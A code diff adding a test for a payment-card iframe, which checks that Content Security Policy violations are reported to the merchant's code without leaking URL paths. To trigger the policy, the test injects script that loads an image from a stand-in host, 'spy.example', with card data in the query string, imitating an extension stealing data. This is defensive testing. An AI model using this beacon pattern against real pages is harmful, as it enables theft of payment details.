@@ -81,6 +81,34 @@ test.each(['card', 'payment'] as const)('the %s element on an isolated page', as
   });
 });
 
+test('what the frame’s own policy stopped is told to the merchant’s code, without addresses', async () => {
+  const page = await rig.open({ kind: 'card' });
+  const frame = page.frames().find((one) => one.url().endsWith('/fields/card'));
+  // As an extension would that was let into the frame.
+  await frame?.evaluate(`(() => {
+    new Image().src = 'https://spy.example:8443/seen?card=1#x';
+    const style = document.createElement('style');
+    style.textContent = 'a{}';
+    document.head.append(style);
+    for (let at = 0; at < 40; at += 1) new Image().src = 'data:,' + at;
+  })()`);
+  const told = `log.filter(([name]) => name === 'cspviolation').map(([, event]) => event)`;
+  await expect.poll(() => page.evaluate(`${told}.length`)).toBe(20);
+  // Policies are checked in the order of the pictures, and the sheet as soon as it is there.
+  const events = (await page.evaluate(told)) as { effectiveDirective: string }[];
+  expect(events).toContainEqual({
+    elementType: 'card',
+    effectiveDirective: 'img-src',
+    blockedURI: 'https://spy.example:8443',
+  });
+  expect(events).toContainEqual({
+    elementType: 'card',
+    effectiveDirective: 'style-src-elem',
+    blockedURI: 'inline',
+  });
+  expect(JSON.stringify(events)).not.toContain('seen');
+});
+
 test('the merchant’s page makes no request after the script and the frames', async () => {
   const page = await rig.newPage();
   const requests: string[] = [];
